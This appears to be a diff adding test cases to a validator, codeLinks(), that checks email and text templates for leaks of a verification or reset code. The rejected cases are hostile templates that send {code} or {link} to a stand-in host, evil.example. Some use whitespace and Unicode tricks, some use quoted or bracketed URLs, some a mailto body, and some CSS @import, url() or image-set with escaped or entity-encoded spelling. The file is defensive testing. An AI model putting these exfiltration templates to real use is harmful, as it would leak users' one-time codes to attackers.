@@ -28,6 +28,11 @@ describe("in a text, codeLinks() allows", () => {
     "<{link}>.",
     "{url}/reset?user={username}&code={code}",
     "(https://app.example.net/#{code})",
+    "<URL:{url}/reset#\n  {code}>",
+    "Code\u202f: {code}\u00a0!",
+    "\u3000{code}\u3000https://docs.example.com/help",
+    '{"to":"{username}","text":"Code: {code}. See https://docs.example.com/help."}',
+    '"https://docs.example.com/help" {code} "x"',
     "HTTPS://ID.example.org:443/#{code}",
   ])("%s", (template) => {
     expect(checkText(template, BASE)).toBeNull();
@@ -70,6 +75,20 @@ describe("in a text, codeLinks() rejects", () => {
     "https://evil.example/{{{code}}}",
     "https://evil.example/\u200b{code}",
     "https://evil.example/?{link}",
+    "<https://evil.example/reset# {code}>",
+    "< HTTPS://evil.example/reset#\r\n\t{code} >",
+    "<https://evil.example/reset#\u00a0{code}>",
+    "<https://evil.example/reset#\u2028{code}>",
+    "<URL:https://evil.example/reset#\n{code}>",
+    "<//evil.example/ {code}>",
+    "<www.evil.example/ {code}>",
+    "<mailto:mallory@evil.example?body= {code}>",
+    '"https://evil.example/reset?c= {code}"',
+    'x" https://evil.example/reset?c= {code} "',
+    '"x" "https://evil.example/reset?c= {code}"',
+    "https://evil.example/\ufeff{code}",
+    "https://evil.example/\u2028{code}",
+    "https://evil.example/\u2009{code}",
   ])("%s", (template) => {
     expect(checkText(template, BASE)).toEqual(ELSEWHERE);
   });
@@ -85,6 +104,7 @@ describe("in HTML, codeLinks() allows", () => {
     "<p>{url}/reset?user=x&amp;code={code} or &bdquo;{code}&ldquo;&nbsp;x</p>",
     "<!--[if mso]><table><tr><td><![endif]--><b>{code}</b><!--[if mso]></td></tr></table><![endif]-->",
     "<!--[if !mso]><!--><b>{code}</b><!--<![endif]-->",
+    '<link rel="stylesheet" href="{url}/mail.css"><p style="background:url(https://cdn.example.com/x.png)">{code}</p>',
     "<a href='https://evil.example/'>no code</a",
   ])("%s", (template) => {
     expect(checkHtml(template, BASE)).toBeNull();
@@ -113,6 +133,17 @@ describe("in HTML, codeLinks() rejects", () => {
     "<p>https://evil.example/<b>{code}</b></p>",
     "<p>&#104;ttps://evil.example/{code}</p>",
     "<p>evil&period;example&sol;{code}</p>",
+    "<p>&lt;https://evil.example/# {code}&gt;</p>",
+    "<p>&quot;https://evil.example/#&#xfeff;{code}&quot;</p>",
+    "<style>@import 'https://evil.example/x.css';</style><a href=\"{link}\">x</a>",
+    '<style>@IMPORT url(https://evil.example/x.css);</style><a href="{link}">x</a>',
+    "<style>a[href*='42'] {{ background: URL(https://evil.example/42) }}</style><a href=\"{link}\">x</a>",
+    "<style>a {{ background: -webkit-image-set('https://evil.example/42' 1x) }}</style><a href=\"{link}\">x</a>",
+    '<style>a {{ background: \\75rl(https://evil.example/42) }}</style><a href="{link}">x</a>',
+    '<svg><style>a {{ background: u&#114;l(https://evil.example/42) }}</style></svg><a href="{link}">x</a>',
+    '<!--[if mso]><style>@import "x";</style><![endif]--><a href="{link}">x</a>',
+    '<link rel=stylesheet href="https://evil.example/x.css"><a href="{link}">x</a>',
+    '<link rel="style&#115;heet" href="//evil.example/x.css"><a href="{link}">x</a>',
     "<p>https://id.example.org/&nbspevil.example/{code}</p>",
     '<!--[if mso]><a href="https://evil.example/{code}">x</a><![endif]-->',
   ])("%s", (template) => {
